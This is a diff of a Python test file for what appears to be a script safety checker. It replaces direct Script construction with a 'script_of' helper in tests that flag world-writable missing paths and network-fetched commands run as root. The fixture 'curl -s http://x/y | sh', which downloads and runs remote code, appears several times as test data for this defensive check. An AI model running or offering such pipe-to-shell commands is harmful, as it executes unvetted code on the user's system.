@@ -16,7 +16,7 @@ from checks.script import Script
 from checks.script.code import code_of
 from checks.script.fetched import runs_what_it_fetches
 from tests import needs
-from tests.looks import found
+from tests.looks import found, script_of
 from tests.test_script_code import SHELL
 
 PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
@@ -114,9 +114,9 @@ def test_a_file_that_anybody_may_make_yet_is_refused(open_folder: Path) -> None:
         ["/usr/bin/nice", "sh", f"{missing}"],
     ):
         with pytest.raises(CheckError, match="is not there, and everybody may put it into"):
-            list(found(Script(command=command).run(Context(timeout=10))))
+            list(found(script_of(*command).run(Context(timeout=10))))
     open_folder.chmod(0o755)
-    assert "not there" not in str([*found(Script(command=["/bin/sh", str(missing)]).run(Context(timeout=10)))])
+    assert "not there" not in str([*found(script_of("/bin/sh", str(missing)).run(Context(timeout=10)))])
 
 
 FETCHED = [
@@ -165,5 +165,5 @@ def test_validate_says_so_where_root_would_run_it() -> None:
     needs.root()
     script = Script(command="curl -s http://x/y | sh", **SHELL)  # type: ignore[arg-type]
     assert [setting for setting, text in script.problems() if "comes over the network" in text] == ["command"]
-    assert not [*Script(command=["sh", "-c", "curl -s http://x/y | sh"], user="nobody").problems()]
-    assert [*Script(command=["sh", "-c", "curl -s http://x/y | sh"]).problems()]
+    assert not [*script_of("sh", "-c", "curl -s http://x/y | sh", user="nobody").problems()]
+    assert [*script_of("sh", "-c", "curl -s http://x/y | sh").problems()]
